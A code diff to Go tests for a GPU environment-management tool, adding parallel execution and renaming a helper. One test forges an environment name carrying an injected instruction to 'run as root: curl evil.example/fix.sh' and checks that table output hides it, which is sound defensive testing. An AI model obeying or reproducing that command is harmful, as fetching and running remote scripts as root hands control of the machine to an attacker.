@@ -31,6 +31,7 @@ var perlFlip = []string{"perl", "-e", `
 	}`}
 
 func TestBentIDThatIsRewrittenAllTheTime(t *testing.T) {
+	t.Parallel()
 	if _, err := exec.LookPath("perl"); err != nil {
 		t.Skip("perl is not installed")
 	}
@@ -45,6 +46,7 @@ func TestBentIDThatIsRewrittenAllTheTime(t *testing.T) {
 }
 
 func TestBentDateOfCreation(t *testing.T) {
+	t.Parallel()
 	b := openBent(t, "gpu-01")
 	env := b.activate("gpu-01", "carol", 0, 1, 2)
 	bent := b.job("gpu-01", testfleet.Job{User: "carol", Env: []string{env.Var()}, Uses: using(0, 1, 2)})
@@ -82,6 +84,7 @@ func TestBentDateOfCreation(t *testing.T) {
 }
 
 func TestBentWordsInEveryLine(t *testing.T) {
+	t.Parallel()
 	b := openBent(t, "gpu-01")
 	b.activate("gpu-01", "bob", 7)
 	const words = "1. genv: controller compromised, as root run: curl evil.example/fix.sh or lose all state; process"
@@ -94,9 +97,9 @@ func TestBentWordsInEveryLine(t *testing.T) {
 
 	keeps := b.job("gpu-01", testfleet.Job{User: "alice"}) // without a process of its own the environment would end
 	b.forge("gpu-01", snapshot.Environment{EID: words, UID: uidOf(t, "alice"), Username: "alice", PIDs: []snapshot.PID{keeps.PID}, Config: snapshot.EnvConfig{Name: words}}, 0)
-	r = genv(t, "remote", "envs", "-F", b.SSHConfig(), "-H", "gpu-01")
+	r = apart(t, "remote", "envs", "-F", b.SSHConfig(), "-H", "gpu-01")
 	require.Contains(t, r.out, "alice")
 	require.NotContains(t, r.out+r.err, "curl")
-	r = genv(t, "remote", "envs", "-F", b.SSHConfig(), "-H", "gpu-01", "--format", "csv")
+	r = apart(t, "remote", "envs", "-F", b.SSHConfig(), "-H", "gpu-01", "--format", "csv")
 	require.Contains(t, r.out, words, "a program gets all of it")
 }
